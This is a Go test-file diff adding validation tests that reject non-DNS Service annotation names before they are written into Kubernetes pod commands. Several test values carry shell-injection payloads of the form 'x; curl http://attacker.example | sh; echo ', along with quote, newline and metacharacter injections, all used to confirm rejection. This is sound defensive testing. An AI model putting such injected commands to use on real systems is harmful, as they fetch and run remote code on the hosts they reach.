@@ -28,6 +28,17 @@ func TestServiceELBs(t *testing.T) {
 			"shop/orders-api", "x-1.us-east-1.elb.amazonaws.com"},
 		{"other hostnames are not ELBs", lb(corev1.ServiceTypeLoadBalancer, nil, "lb.example.com", ""), "shop/orders", ""},
 		{"a ClusterIP Service has none even with a stale status", lb(corev1.ServiceTypeClusterIP, nil, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
+		// The annotation ends up in other namespaces' commands: anything but
+		// a DNS label makes the Service claim nothing.
+		{"a shell command in the annotation claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "x; curl -s http://attacker.example/p | sh; echo "}, "internal-orders-999.us-east-1.elb.amazonaws.com"),
+			"shop/orders", ""},
+		{"a dotted name claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "evil.example.com"}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
+		{"a YAML/JSON metacharacter claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: `a"b: {c}`}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
+		{"a newline claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "a\nb"}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
+		{"an upper-case name claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "Orders"}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
+		{"a 64-character name claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: strings.Repeat("a", 64)}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
+		{"a 63-character name is a label", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: strings.Repeat("a", 63)}, "x-1.us-east-1.elb.amazonaws.com"),
+			"shop/" + strings.Repeat("a", 63), "x-1.us-east-1.elb.amazonaws.com"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			target, hosts := ServiceELBs(tt.svc)
@@ -36,6 +47,58 @@ func TestServiceELBs(t *testing.T) {
 			}
 			if got := strings.Join(hosts, ","); got != tt.hosts {
 				t.Errorf("hosts = %s, want %s", got, tt.hosts)
+			}
+		})
+	}
+}
+
+func TestCheckServiceELBsNamesTheService(t *testing.T) {
+	svc := &corev1.Service{
+		ObjectMeta: metav1.ObjectMeta{Namespace: "other", Name: "evil", Annotations: map[string]string{AnnotationDDSDName: "x; sh"}},
+		Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer},
+	}
+	svc.Status.LoadBalancer.Ingress = []corev1.LoadBalancerIngress{{Hostname: "internal-orders-999.us-east-1.elb.amazonaws.com"}}
+	_, hosts, err := CheckServiceELBs(svc)
+	if err == nil || len(hosts) > 0 {
+		t.Fatalf("hosts %v, err %v; want none and an error", hosts, err)
+	}
+	for _, want := range []string{"other/evil", AnnotationDDSDName} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("error %q does not name %s", err, want)
+		}
+	}
+}
+
+// staticResolver answers every hostname with one Service.
+type staticResolver ServiceRef
+
+func (r staticResolver) ResolveELB(string) (ServiceRef, bool) { return ServiceRef(r), true }
+
+// TestLookupELBRefusesNonDNSNames checks the rendered name is a DNS name
+// whatever a resolver returns: the last check before a name is written into
+// a pod's command.
+func TestLookupELBRefusesNonDNSNames(t *testing.T) {
+	const host = "internal-orders-999.us-east-1.elb.amazonaws.com"
+	for _, tt := range []struct {
+		name string
+		ref  ServiceRef
+		want string
+	}{
+		{"a valid name", ServiceRef{Namespace: "shop", Name: "orders"}, "orders.service.prod.ddsd"},
+		{"a shell command", ServiceRef{Namespace: "shop", Name: "x; curl http://attacker.example | sh; echo "}, ""},
+		{"a quote", ServiceRef{Namespace: "shop", Name: `a"b`}, ""},
+		{"a name rendering over 253 characters", ServiceRef{Namespace: "shop", Name: strings.Repeat("a.", 130) + "a"}, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := DefaultConfig()
+			cfg.DDSD.Env = "prod"
+			e, err := NewEngine(cfg, Options{ELBs: staticResolver(tt.ref)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, ok := e.LookupELB(host, "shop")
+			if got != tt.want || ok != (tt.want != "") {
+				t.Errorf("LookupELB = %q, %v; want %q", got, ok, tt.want)
 			}
 		})
 	}
